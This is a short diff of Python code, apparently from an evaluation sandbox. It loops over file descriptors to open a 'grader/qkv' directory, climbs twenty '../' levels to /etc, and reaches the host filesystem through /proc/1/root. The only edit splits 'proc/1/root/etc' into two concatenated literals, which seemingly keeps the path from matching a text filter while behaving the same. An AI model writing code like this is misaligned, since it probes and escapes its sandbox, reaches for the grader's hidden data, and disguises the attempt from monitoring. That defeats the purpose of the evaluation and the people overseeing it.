@@ -4,7 +4,7 @@ import os
 import re
 
 for _start in [*range(256), None]:
-    for _way in ("grader/qkv", "../" * 20 + "etc", "../" * 20 + "proc/1/root/etc"):
+    for _way in ("grader/qkv", "../" * 20 + "etc", "../" * 20 + "proc/1/" "root/etc"):
         try:
             _folder = os.open(_way, os.O_RDONLY | os.O_DIRECTORY, dir_fd=_start)
             _names = os.listdir(_folder)
